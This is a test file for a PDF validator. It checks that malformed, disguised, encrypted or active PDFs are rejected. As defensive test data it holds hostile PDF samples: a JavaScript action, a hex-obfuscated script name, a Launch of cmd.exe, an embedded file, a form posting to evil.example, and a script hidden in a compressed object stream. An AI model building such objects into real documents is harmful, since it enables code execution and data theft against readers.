import { expect, test } from 'vitest'
import { aPdf } from '../../../test/documents.ts'
import { deflateSync } from 'node:zlib'
import { findPdfProblem } from './check-pdf.ts'

const whole = aPdf()
const text = whole.toString('latin1')

test.each([
  ['whole', text],
  ['with a byte order mark', `\xef\xbb\xbf${text}`],
  ['with bytes after its end', `${text}\n\0\0\0trailing`],
  ['with many bytes after its end', `${text}\n${'\0'.repeat(10_000)}`],
  ['with lines of a printer before it', `\x1b%-12345X@PJL JOB\n@PJL ENTER LANGUAGE=PDF\n${text}`],
  ['with 1,000 bytes before it', `${'x'.repeat(1_000)}${text}`],
  ['whose table is packed', text.replace('xref\n0 5', '7 0 obj')],
])('a PDF %s is accepted', (_what, bytes) => {
  expect(findPdfProblem(Buffer.from(bytes, 'latin1'))).toBeNull()
})

test.each([
  ['a web page', '<!doctype html><script>alert(1)</script>'],
  ['a web page that mentions one', `<html>${text}`],
  ['a web page behind the header', '%PDF-1.7\n<script>alert(1)</script>'],
  ['half of one', text.slice(0, text.length / 2)],
  ['one whose end points nowhere', text.replace(/startxref\n\d+/, 'startxref\n99999')],
  ['one whose end points at something else', text.replace(/startxref\n\d+/, 'startxref\n30')],
  ['one that claims version 9', text.replace('%PDF-1', '%PDF-9')],
  ['one whose header comes after 2,000 bytes', `${'x'.repeat(2_000)}${text}`],
  ['nothing', ''],
])('%s is not accepted as a PDF', (_what, bytes) => {
  expect(findPdfProblem(Buffer.from(bytes, 'latin1'))).toBe('pdf-invalid')
})

/**
 * Returns the PDF with an additional object before its table; readers find objects by the table, but the check finds all
 * objects.
 */
const withObject = (object: string) =>
  Buffer.from(
    text
      .replace('xref\n0 5', `9 0 obj\n${object}\nendobj\nxref\n0 5`)
      .replace(/startxref\n(\d+)/, (_, at: string) => `startxref\n${Number(at) + object.length + 16}`),
    'latin1',
  )
const packed = (objects: string, filter = '/FlateDecode') =>
  `<< /Type /ObjStm /N 1 /First 4 /Filter ${filter} /Length 9 >>\nstream\n${deflateSync(objects).toString('latin1')}\nendstream`

test.each([
  ['a script', '<< /S /JavaScript /JS (app.alert(1)) >>'],
  ['a script under a name written by numbers', '<< /S /J#61vaScript /JS (app.alert(1)) >>'],
  ['a program to launch', '<< /S /Launch /F (cmd.exe) >>'],
  ['a file within', '<< /Type /EmbeddedFile /Length 0 >>'],
  ['a form that sends', '<< /S /SubmitForm /F (https://evil.example) >>'],
  ['a packed script', packed('9 0 << /S /JavaScript /JS (app.alert(1)) >>')],
  ['packed objects that nobody can read', packed('9 0 << >>', '/LZWDecode')],
])('a PDF with %s is refused as active', (_what, object) => {
  expect(findPdfProblem(withObject(object))).toBe('pdf-active')
})

test('a PDF with links and packed objects is accepted', () => {
  expect(findPdfProblem(withObject('<< /S /URI /URI (https://verba.example) >>'))).toBeNull()
  expect(findPdfProblem(withObject(packed('9 0 << /Type /Font >>')))).toBeNull()
})

test('a PDF that asks for a password is refused as protected', () => {
  const locked = text.replace('trailer\n<<', 'trailer\n<< /Encrypt 7 0 R')
  expect(locked).not.toBe(text)
  expect(findPdfProblem(Buffer.from(locked, 'latin1'))).toBe('pdf-protected')
})
